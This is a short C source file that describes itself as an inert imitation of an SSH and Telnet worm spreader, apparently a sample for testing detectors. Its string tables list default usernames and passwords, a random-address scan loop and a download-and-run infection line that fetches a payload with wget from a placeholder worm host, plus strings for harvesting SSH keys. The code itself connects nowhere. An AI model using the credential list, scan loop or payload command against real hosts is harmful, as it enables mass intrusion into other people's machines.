/* Inert imitation of an SSH and Telnet spreader: scan loop, credentials, infection line. It connects nowhere. */
#include "inert.h"
TABLE(users, "root", "admin", "ubuntu", "oracle", "postgres", "hadoop", "git", "test", "ftpuser", "pi")
TABLE(words, "123456", "password", "admin123", "root@123", "qwerty", "toor", "P@ssw0rd", "1qaz2wsx", "raspberry", "letmein", "changeme", "12345678")
TABLE(texts, "scanning %d.%d.0.0/16 port 22", "[+] %s:%s@%s", "SSH-2.0-Go", "libssh2_session_init", "uname -s -v -n -r -m; cat /proc/cpuinfo | grep name | wc -l", "cd /tmp || cd /var/run || cd /dev/shm; wget http://{{ip:worm}}/payload -O .s && chmod 777 .s && ./.s ssh.wget; rm -rf .s",
    "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI", "infected %d hosts", "id_rsa", "known_hosts", "BatchMode=yes", "StrictHostKeyChecking=no", "scp -P %d %s %s@%s:/tmp/.s")
static uint32_t random_address(void) { uint32_t a; do a = rand(); while ((a & 0xff) == 127 || (a & 0xff) == 10 || (a & 0xff) == 0 || (a & 0xffff) == 0xa8c0); return a; }
static int try_login(uint32_t address, const char *user, const char *word) { char line[256]; snprintf(line, 256, texts[1], user, word, ""); return connect(nowhere, 0, 0); }
int main(int argc, char **argv) { INERT; tell(users); tell(words); tell(texts); while (armed) for (int u = 0; u < 10; u++) for (int w = 0; w < 12; w++) if (!try_login(random_address(), users[u], words[w])) system(""); return 0; }
